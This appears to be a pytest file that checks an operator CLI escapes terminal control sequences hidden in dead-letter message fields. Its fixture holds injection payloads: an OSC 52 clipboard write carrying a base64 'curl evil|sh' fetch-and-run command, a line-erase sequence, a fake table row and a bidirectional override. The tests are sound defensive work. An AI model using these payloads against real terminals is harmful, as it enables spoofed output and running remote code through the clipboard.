"""Operator terminal injection (issue 19 item 7): what a sender wrote into a message
reaches the operator's terminal as text, never as control sequences; ``--json`` stays
JSON."""

from __future__ import annotations

import base64
import json

import pytest

from runtime.ops.messages import describe
from runtime.ops import output
from runtime.ops.peek import rows

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # OSC 52: write the operator's clipboard
ERASE = "\r\x1b[2K"  # back to the line's start, erase it
FAKE_ROW = "\nid-0  0s  1  undecodable  celery  t.ok  ok"


def hostile_dead_letter() -> dict:
    envelope = {"headers": {"task": f"t.add{CLIPBOARD}", "id": f"id-1{FAKE_ROW}"},
                "properties": {}, "body": ""}
    return {"MessageId": "m-1", "ReceiptHandle": "r", "Attributes": {},
            "Body": base64.b64encode(json.dumps(envelope).encode()).decode(),
            "MessageAttributes": {
                "kit_reason": {"DataType": "String", "StringValue": f"bad{ERASE}fine"},
                "kit_source_queue": {"DataType": "String", "StringValue": "celery\u202egol"}}}


def test_a_peek_shows_control_characters_escaped_and_fakes_no_row():
    shown = rows([describe(hostile_dead_letter())])
    assert not any(char in shown for char in "\x1b\x07\r\u202e")
    assert len(shown.splitlines()) == 2  # the header and the one dead letter
    assert "t.add\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in shown
    assert "id-1\\x0aid-0" in shown
    assert "bad\\x0d\\x1b[2Kfine" in shown
    assert "celery\\u202egol" in shown


@pytest.mark.parametrize("text, shown", [
    ("plain t.add (é, 任务, emoji 🙂, tab-less)", "plain t.add (é, 任务, emoji 🙂, tab-less)"),
    ("a\tb\x00c\x7fd\x9be", "a\\x09b\\x00c\\x7fd\\x9be"),  # C0, DEL, C1 (CSI)
    ("x\u2028y\u2029z\u2066w", "x\\u2028y\\u2029z\\u2066w"),
])
def test_printable_escapes_exactly_what_a_terminal_would_act_on(text, shown):
    assert output.printable(text) == shown


def test_every_table_cell_is_escaped_and_columns_align_on_what_is_shown():
    printed = output.table(["NAME", "N"], [["a\nb", 1], ["ccc\x1b", 22]])
    assert printed.splitlines() == ["NAME      N", "a\\x0ab    1", "ccc\\x1b  22"]


def test_json_output_keeps_the_values_and_escapes_them_itself():
    letter = describe(hostile_dead_letter())
    text = json.dumps(letter.as_json())
    assert "\x1b" not in text and "\n" not in text
    assert json.loads(text)["task"] == f"t.add{CLIPBOARD}"
